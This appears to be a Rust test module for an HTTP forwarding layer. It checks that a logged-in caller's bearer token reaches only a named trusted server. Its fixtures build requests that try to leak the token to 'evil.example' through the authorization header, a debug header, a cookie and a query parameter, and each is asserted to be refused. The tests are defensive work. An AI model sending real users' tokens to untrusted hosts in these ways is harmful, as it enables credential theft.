//! INVARIANT token-stays-home: tokens go to servers that were named, whatever a handler does.

use std::convert::Infallible;

use http::{Request, Response};
use tower::{ServiceExt as _, service_fn};
use tower_layer::Layer as _;

use super::*;
use crate::{BoxError, ForwardError, ForwardLayer, Trusted};

const TRUSTED: &str = "https://orders.example:8443/customers";

/// Sends a request; gives the headers as they would have left.
async fn sent(request: Request<()>) -> Result<HeaderMap, BoxError> {
    let wire = service_fn(async |request: Request<()>| {
        assert!(request.extensions().get::<Caller>().is_none());
        Ok::<_, Infallible>(Response::new(request.headers().clone()))
    });
    let trusted = Trusted::new(["https://orders.example:8443"]).unwrap();
    Ok(ForwardLayer::new(trusted).layer(wire).oneshot(request).await?.into_body())
}

fn to(uri: &str) -> Request<()> {
    Request::get(uri).body(()).unwrap()
}

fn refused(result: Result<HeaderMap, BoxError>) -> ForwardError {
    *result.unwrap_err().downcast().unwrap()
}

#[tokio::test]
async fn the_same_token_goes_on_to_a_trusted_server_only() {
    let world = World::new().await;
    let login = world.login();
    let caller = world.caller(&login).await.unwrap();
    let expected = format!("Bearer {}", login.token());

    let headers = caller.clone().scope(sent(to(TRUSTED))).await.unwrap();
    assert_eq!(headers[AUTHORIZATION], expected);
    assert!(headers[AUTHORIZATION].is_sensitive());
    for elsewhere in
        ["https://orders.example/", "http://orders.example:8443/", "https://evil.example:8443/", "/customers"]
    {
        let headers = caller.clone().scope(sent(to(elsewhere))).await.unwrap();
        assert!(headers.is_empty(), "{elsewhere}");
    }

    // A task of its own has no caller unless it is given one.
    let spawned = caller.clone().scope_sync(|| tokio::spawn(sent(to(TRUSTED))));
    assert_eq!(refused(spawned.await.unwrap()), ForwardError::NoCaller);
    let mut explicit = to(TRUSTED);
    explicit.extensions_mut().insert(caller.clone());
    assert_eq!(tokio::spawn(sent(explicit)).await.unwrap().unwrap()[AUTHORIZATION], expected);
    assert!(sent(to("https://evil.example")).await.unwrap().is_empty());
}

#[tokio::test]
async fn a_token_that_a_handler_put_there_itself_does_not_leave() {
    let world = World::new().await;
    let login = world.login();
    let caller = world.caller(&login).await.unwrap();
    let with = |uri: &str, name: &str, value: &str| Request::get(uri).header(name, value).body(()).unwrap();
    let bearer = format!("Bearer {}", login.token());
    for leaking in [
        with("https://evil.example/", "authorization", &bearer),
        with("https://evil.example/", "x-debug", login.token()),
        with("https://evil.example/", "cookie", &format!("a=b; t={}; c=d", login.token())),
        to(&format!("https://evil.example/?access_token={}", login.token())),
    ] {
        assert_eq!(refused(caller.clone().scope(sent(leaking)).await), ForwardError::Untrusted);
    }
    // Another credential for another server is none of ours.
    let own = with("https://partner.example/", "authorization", "Basic YTpi");
    assert_eq!(caller.clone().scope(sent(own)).await.unwrap()[AUTHORIZATION], "Basic YTpi");
    // To a trusted one, the caller's token goes and nothing in its place.
    let other = with(TRUSTED, "authorization", "Basic YTpi");
    assert_eq!(refused(caller.clone().scope(sent(other)).await), ForwardError::Occupied);

    let trusted = Trusted::new(["https://orders.example:8443"]).unwrap();
    let mut elsewhere = to("https://evil.example/");
    assert_eq!(caller.authorize(&trusted, &mut elsewhere), Err(ForwardError::Untrusted));
    assert!(elsewhere.headers().is_empty());
}
